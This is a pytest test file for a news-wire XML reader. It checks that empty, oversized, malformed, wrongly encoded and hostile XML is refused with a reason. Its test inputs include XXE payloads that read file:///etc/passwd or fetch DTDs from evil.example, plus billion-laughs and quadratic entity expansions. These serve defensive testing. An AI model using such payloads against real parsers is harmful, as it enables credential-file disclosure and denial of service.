"""XML that is broken or means harm is refused with a reason, whole and at once."""

import time

import pytest

from huiliu.newsroom.wire.core.g2.reading import read_g2
from huiliu.newsroom.wire.core.refusal import Reason, Refused
from huiliu.newsroom.wire.core.xml_document import BYTES_MAX, xml_root
from tests.newsroom.wire.core.g2_documents import NAR, a_document, an_item, left

LAUGHS = b"".join(
    b'<!ENTITY a%d "%s">' % (number + 1, b"&a%d;" % number * 10) for number in range(9)
)


def reason_of(data: bytes) -> Reason:
    with pytest.raises(Refused) as refused:
        read_g2(data)
    return refused.value.reason


@pytest.mark.parametrize("data", [b"", b" \n\t "])
def test_nothing_is_refused(data: bytes) -> None:
    assert reason_of(data) is Reason.EMPTY


def test_more_than_20_mb_are_refused() -> None:
    assert reason_of(b" " * (BYTES_MAX + 1)) is Reason.TOO_LARGE


@pytest.mark.parametrize(
    "data",
    [
        b"<!DOCTYPE newsItem><newsItem/>",
        b'<!DOCTYPE newsItem SYSTEM "http://evil.example/x.dtd"><newsItem/>',
        b'<!DOCTYPE newsItem [<!ENTITY x SYSTEM "file:///etc/passwd">]><newsItem>&x;</newsItem>',
        b'<!DOCTYPE a [<!ENTITY % p SYSTEM "http://evil.example/p">%p;]><a/>',
        b"<!DOCTYPE a [<!ENTITY a0 'ha'>" + LAUGHS + b"]><a>&a9;</a>",
        b"<!DOCTYPE a [<!ENTITY a0 'ha'>" + LAUGHS + b"]><a b='&a9;'/>",
        b"<!DOCTYPE a [<!ENTITY a '" + b"x" * 100_000 + b"'>]><a>" + b"&a;" * 10_000 + b"</a>",
        b"<!DOCTYPE a [",
    ],
)
def test_document_types_and_entities_are_refused_at_once(data: bytes) -> None:
    began = time.process_time()

    assert reason_of(data) is Reason.DOCUMENT_TYPE
    assert time.process_time() - began < 1


def test_an_entity_without_a_document_type_is_refused() -> None:
    assert reason_of(b"<newsItem>&nbsp;</newsItem>") is Reason.BROKEN_XML


def test_64_levels_are_read_and_one_more_is_refused() -> None:
    def nested(levels: int) -> bytes:
        return b"<a>" * levels + b"</a>" * levels

    assert xml_root(nested(64)).tag == "a"
    assert reason_of(nested(65)) is Reason.TOO_DEEP
    assert reason_of(nested(5_000)) is Reason.TOO_DEEP


def test_more_than_100_000_elements_are_refused() -> None:
    assert len(xml_root(b"<a>" + b"<b/>" * 99_999 + b"</a>")) == 99_999
    assert reason_of(b"<a>" + b"<b/>" * 100_000 + b"</a>") is Reason.TOO_MANY_ELEMENTS


@pytest.mark.parametrize(
    "data",
    [
        '<?xml version="1.0" encoding="utf-8"?><a>通州</a>'.encode("gb18030"),
        '<?xml version="1.0" encoding="us-ascii"?><a>通州</a>'.encode(),
        b'<?xml version="1.0" encoding="x-none"?><a/>',
    ],
)
def test_a_charset_that_is_not_the_declared_one_is_refused(data: bytes) -> None:
    assert reason_of(data) is Reason.WRONG_CHARSET


@pytest.mark.parametrize("charset", ["utf-8", "utf-16", "gb18030", "big5", "iso-8859-1"])
def test_declared_charsets_are_read(charset: str) -> None:
    word = "Bülow" if charset == "iso-8859-1" else "通州"
    text = f'<?xml version="1.0" encoding="{charset}"?><newsItem xmlns="{NAR}" guid="{word}"/>'

    (item,) = read_g2(text.encode(charset))

    assert item.uri == word


@pytest.mark.parametrize("share", [0.1, 0.5, 0.9, 0.99])
def test_a_file_that_is_cut_off_is_refused_with_its_line(share: float) -> None:
    data = a_document("\n<itemMeta>\n<title>文</title>\n</itemMeta>\n")

    with pytest.raises(Refused) as refused:
        read_g2(data[: int(len(data) * share)])

    assert refused.value.reason is Reason.BROKEN_XML
    assert refused.value.place >= 1


@pytest.mark.parametrize("data", [b"{}", b"\x00\x01", b"<a></b>", b"<a>\x01</a>", b"PK\x03\x04"])
def test_what_is_no_xml_is_refused(data: bytes) -> None:
    assert reason_of(data) is Reason.BROKEN_XML


def test_long_names_and_many_places_stay_small() -> None:
    name = "n" * 40_000

    item = an_item(f"<itemMeta><{name}/></itemMeta>")

    assert max(map(len, left(item))) < 100


@pytest.mark.parametrize(
    "inner",
    [
        "<contentMeta>" + "<headline>x</headline>" * 30_000 + "</contentMeta>",
        "<contentMeta>" + "".join(f"<keyword>{n}</keyword>" for n in range(30_000))
        + "</contentMeta>",
        "<assert literal='a'>" + "<name>x</name>" * 40 + "</assert><contentMeta>"
        + "<subject literal='a'/>" * 5_000 + "</contentMeta>",
        "".join(f"<assert literal='{n}'/>" for n in range(30_000)),
        "<catalogRef href='http://c.example/1'/>" * 50_000,
        "<groupSet root='0'>"
        + "".join(f"<group id='{n}'>{'<groupRef idref=%r/>' % str(n + 1) * 2}</group>"
                  for n in range(20_000)) + "</groupSet>",
        "<newsCoverageSet><newsCoverage>" + "<planning/>" * 20_000
        + "</newsCoverage></newsCoverageSet>",
        "<partMeta>" + "<description>x</description>" * 50_000 + "</partMeta>",
    ],
    ids=range(8),
)  # fmt: skip
def test_no_list_costs_more_than_its_length(inner: str) -> None:
    data = a_document(inner, root="packageItem")
    began = time.process_time()

    read_g2(data, catalogs={"http://c.example/1": {str(n): "http://x/" for n in range(1_000)}})

    assert time.process_time() - began < 3
